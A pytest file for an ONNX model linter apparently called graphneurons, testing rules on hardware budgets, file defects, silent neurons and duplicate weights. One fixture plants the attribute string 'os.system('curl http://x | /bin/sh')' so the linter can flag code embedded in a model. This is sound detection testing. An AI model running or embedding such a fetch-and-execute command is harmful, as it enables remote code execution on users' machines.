"""Rules one by one: hardware and budgets, trouble with the file, proofs of silence, and what every rule documents."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import onnxruntime
import pytest
from onnx import helper, numpy_helper

import graphneurons
from graphneurons.checks.base import FindingsError, Subject
from graphneurons.checks.policy import DEFAULT, parse_policy
from graphneurons.checks.registry import FAMILIES, checks
from graphneurons.checks.running import run
from graphneurons.errors import DataError
from graphneurons.reports.rules import pages
from tests.checks.defects import DEFECTS
from tests.checks.models import HEALTHY, attribute, checked, found, node, replace, weight
from tests.checks.test_drift import CHANGES

ROOT = Path(__file__).parents[2]


def _made(name: str) -> onnx.ModelProto:
    return HEALTHY[name](np.random.default_rng(0))


@pytest.mark.parametrize("check", checks().values(), ids=lambda check: check.code)
def test_every_rule_documents_itself(check: Any) -> None:
    told = check.documentation
    assert told.title.endswith(".")
    assert all((told.what, told.why, told.example, told.fix))
    assert check.code[:3] in FAMILIES
    assert check.name == check.name.lower()


def test_names_are_unique() -> None:
    assert len({check.name for check in checks().values()}) == len(checks())


def test_the_committed_rule_pages_are_those_of_the_docstrings() -> None:
    folder = ROOT / "docs" / "rules"
    assert {path.name: path.read_text("utf-8") for path in folder.iterdir()} == pages(checks().values())


# Code -> the policy that asks for it, and one that is content, of the model `cnn`.
ASKED: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "GN401": ({"hardware": {"alignment": 8}}, {"hardware": {"alignment": 1}}),
    "GN402": ({"hardware": {"tensor-parallel": 5}}, {"hardware": {"tensor-parallel": 2}}),
    "GN403": ({"hardware": {"sparsity": "2:4"}}, {}),
    "GN404": ({"budgets": {"neurons": 24}}, {"budgets": {"neurons": 25}}),
    "GN405": ({"budgets": {"synapses": 700}}, {"budgets": {"synapses": "1 k"}}),
    "GN406": ({"budgets": {"parameters": "0.7 k"}}, {"budgets": {"parameters": 1000}}),
    "GN407": ({"budgets": {"file-size": "1 kB"}}, {"budgets": {"file-size": "1 MiB"}}),
}


@pytest.mark.parametrize("code", ASKED)
def test_hardware_and_budgets_are_held_to(code: str, tmp_path: Path) -> None:
    asked, content = ASKED[code]
    name = "mlp" if code == "GN402" else "cnn"
    assert found(checked(_made(name), tmp_path, asked), code)
    assert not found(checked(_made(name), tmp_path, content), code)


def test_alignment_names_the_layers(tmp_path: Path) -> None:
    report = checked(_made("cnn"), tmp_path, {"hardware": {"alignment": 8}})
    assert [(each.layer, each.evidence["neurons"]) for each in found(report, "GN401")] == [("body", 12), ("head", 5)]


@pytest.mark.parametrize("name", ["mlp", "matmul_mlp"])
def test_sparsity_is_looked_for_along_the_synapses(name: str, tmp_path: Path) -> None:
    along = {"mlp": 1, "matmul_mlp": 0}[name]
    made = _made(name)
    for each in ("fc1.weight", "fc2.weight"):
        values = np.moveaxis(weight(made, each), along, -1)
        values[..., 0::4] = values[..., 2::4] = 0
        replace(made, each, np.ascontiguousarray(np.moveaxis(values, -1, along)))
    policy = {"select": ["GN403"], "hardware": {"sparsity": "2:4"}}
    assert checked(made, tmp_path, policy).findings == ()
    values = weight(made, "fc1.weight")
    rows = values if along == 1 else values.T
    rows[5, 4:8] = 1
    replace(made, "fc1.weight", values)
    assert [(each.layer, each.neurons, each.axis) for each in checked(made, tmp_path, policy).findings] == [
        ("fc1", (5,), along)
    ]


def _custom(made: onnx.ModelProto) -> None:
    node(made, "/relu/Relu").domain = "acme"
    made.opset_import.append(helper.make_opsetid("acme", 1))


def _undeclared(made: onnx.ModelProto) -> None:
    node(made, "/relu/Relu").domain = "acme"


def _old(made: onnx.ModelProto) -> None:
    made.opset_import[0].version = 6


def _python(made: onnx.ModelProto) -> None:
    _custom(made)
    node(made, "/relu/Relu").op_type = "PyOp"


def _shell(made: onnx.ModelProto) -> None:
    attribute(node(made, "/relu/Relu"), "note", "import os; os.system('curl http://x | /bin/sh')")


def _unsorted(made: onnx.ModelProto) -> None:
    first = made.graph.node[0]
    made.graph.node.append(first)
    del made.graph.node[0]


FILES: dict[str, tuple[Callable[[onnx.ModelProto], None], str]] = {
    "custom domain": (_custom, "GN602"),
    "undeclared domain": (_undeclared, "GN603"),
    "old operator set": (_old, "GN603"),
    "Python op": (_python, "GN605"),
    "code in an attribute": (_shell, "GN605"),
    "nodes out of order": (_unsorted, "GN606"),
}


@pytest.mark.parametrize("name", FILES)
def test_trouble_with_the_file_is_found(name: str, tmp_path: Path) -> None:
    change, code = FILES[name]
    made = _made("mlp")
    change(made)
    report = checked(made, tmp_path, {"select": ["GN6"]})
    assert found(report, code), [finding.code for finding in report.findings]


def test_missing_external_data_is_found_without_reading_weights(tmp_path: Path) -> None:
    path = tmp_path / "m.onnx"
    onnx.save(_made("mlp"), path, save_as_external_data=True, location="m.data", size_threshold=0)
    (tmp_path / "m.data").unlink()
    report = run(Subject(graphneurons.analyze(path), parse_policy({"select": ["GN601"]}, "policy")))
    assert [finding.code for finding in report.findings] == ["GN601"]
    with pytest.raises(DataError, match=r"m\.data"):
        run(Subject(graphneurons.analyze(path), DEFAULT))


def test_a_file_beyond_protobuf_is_found() -> None:
    from dataclasses import replace as changed

    from graphneurons.graph import Notice

    analysis = graphneurons.analyze(ROOT / "fixtures" / "mlp.onnx")
    large = changed(analysis, notices=(Notice("over-2gib", "", "the file is larger than 2 GiB"),))
    policy = parse_policy({"select": ["GN6"]}, "policy")
    assert [each.code for each in run(Subject(large, policy)).findings] == ["GN604"]
    assert run(Subject(analysis, policy)).findings == ()


def test_unlabelled_weights_are_told_with_the_reason(tmp_path: Path) -> None:
    made = _made("mlp")
    node(made, "/fc2/Gemm").domain = "acme"
    made.opset_import.append(helper.make_opsetid("acme", 1))
    report = checked(made, tmp_path, {"select": ["GN101"]})
    assert [each.weight for each in report.findings] == ["fc2.weight"]
    assert "not labelled" in report.findings[0].message
    assert checked(made, tmp_path, {"thresholds": {"GN101": {"most-share": 0.9}}, "select": ["GN101"]}).findings == ()


def test_weights_that_are_not_read_are_told() -> None:
    from dataclasses import replace as changed

    from graphneurons.health import Skipped, scan

    analysis = graphneurons.analyze(ROOT / "fixtures" / "mlp.onnx")
    subject = Subject(analysis, parse_policy({"select": ["GN607"]}, "policy"))
    health = changed(scan(analysis), skipped=(Skipped(analysis.layers[0].id, "w", "it is packed"),))
    subject.__dict__["health"] = health
    assert [(each.code, each.layer) for each in run(subject).findings] == [("GN607", analysis.layers[0].id)]


def test_every_rule_has_a_firing_case() -> None:
    fired = {code for _, code in FILES.values()} | set(ASKED) | {expected[0] for _, expected in CHANGES.values()}
    fired |= {"GN101", "GN502", "GN505", "GN508", "GN601", "GN604", "GN607"}
    fired |= {"GN307", "GN308", "GN608"}  # test_targets.py
    for defect in DEFECTS:
        random = np.random.default_rng(0)
        fired.add(defect.inject(HEALTHY[defect.model](random), random).code)
    assert sorted(set(checks()) - fired) == []


@pytest.mark.parametrize("path", sorted((ROOT / "fixtures").glob("*.onnx")), ids=lambda path: path.stem)
def test_fixtures_are_clean(path: Path) -> None:
    report = graphneurons.check(path)
    assert report.findings == ()
    assert report.exit_code == 0
    report.raise_for_findings()


def test_findings_are_raised(tmp_path: Path) -> None:
    made = _made("mlp")
    values = weight(made, "fc1.weight")
    values[3] = np.inf
    replace(made, "fc1.weight", values)
    onnx.save(made, tmp_path / "m.onnx")
    report = graphneurons.check(tmp_path / "m.onnx")
    with pytest.raises(FindingsError, match="GN201 fc1: 1 of 24 neurons with NaN or infinite weights") as caught:
        report.raise_for_findings()
    assert caught.value.report is report
    graphneurons.check(tmp_path / "m.onnx", {"ignore": ["GN201"]}).raise_for_findings()


@pytest.mark.parametrize("defect", [each for each in DEFECTS if each.name.startswith(("silent", "saturated"))])
@pytest.mark.parametrize("seed", range(4))
def test_silence_is_true_of_the_running_model(defect: Any, seed: int, tmp_path: Path) -> None:
    random = np.random.default_rng(seed)
    made = HEALTHY[defect.model](random)
    expected = defect.inject(made, random)
    report = checked(made, tmp_path, dict(expected.policy))
    finding = found(report, expected.code)[0]
    stop = next(each for each in made.graph.node if each.name == finding.evidence["op"])
    made.graph.output.append(helper.make_tensor_value_info(stop.output[0] + "_seen", onnx.TensorProto.FLOAT, None))
    made.graph.node.append(helper.make_node("Identity", [stop.output[0]], [stop.output[0] + "_seen"]))
    session = onnxruntime.InferenceSession(made.SerializeToString(), providers=["CPUExecutionProvider"])
    feed = session.get_inputs()[0]
    low, high = dict(expected.policy).get("input-ranges", {"x": [-1e6, 1e6]})["x"]
    for number in range(200):
        # Corners of the range are the worst cases; what lies between is tried too.
        values = random.uniform(low, high, feed.shape) if number % 2 else random.choice([low, high], feed.shape)
        (seen,) = session.run([stop.output[0] + "_seen"], {"x": values.astype(np.float32)})
        neurons = np.moveaxis(seen, 1 if seen.ndim == 4 else -1, 0)[list(finding.neurons or ())]
        assert np.ptp(neurons) < 1e-7


def test_a_neuron_that_fires_somewhere_is_not_called_silent(tmp_path: Path) -> None:
    made = _made("mlp")
    rows, bias = weight(made, "fc1.weight"), weight(made, "fc1.bias")
    bias[:] = -np.abs(rows).sum(axis=1) * 0.99
    replace(made, "fc1.bias", bias)
    assert found(checked(made, tmp_path, {"input-ranges": {"x": [-1, 1]}}), "GN203") == []
    assert found(checked(made, tmp_path), "GN203") == []


def test_a_residual_keeps_neurons_read(tmp_path: Path) -> None:
    made = _made("mlp")
    values = weight(made, "fc2.weight")
    values[:, 4] = 0
    replace(made, "fc2.weight", values)
    made.graph.output.append(helper.make_tensor_value_info("r", onnx.TensorProto.FLOAT, None))
    assert found(checked(made, tmp_path), "GN209") == []


def test_copies_in_different_groups_are_no_copies(tmp_path: Path) -> None:
    made = _made("cnn")
    values = weight(made, "body.weight")
    values[7] = values[2]
    replace(made, "body.weight", values)
    assert found(checked(made, tmp_path), "GN204") == []


def test_a_table_of_constants_is_no_copy(tmp_path: Path) -> None:
    made = _made("mlp")
    for name in ("a", "b"):
        made.graph.initializer.append(numpy_helper.from_array(np.ones((24, 24), np.float32), name))
    made.graph.node.insert(2, helper.make_node("MatMul", ["r", "a"], ["ra"], name="/a/MatMul"))
    made.graph.node.insert(3, helper.make_node("MatMul", ["ra", "b"], ["rb"], name="/b/MatMul"))
    node(made, "/fc2/Gemm").input[0] = "rb"
    assert found(checked(made, tmp_path), "GN103") == []
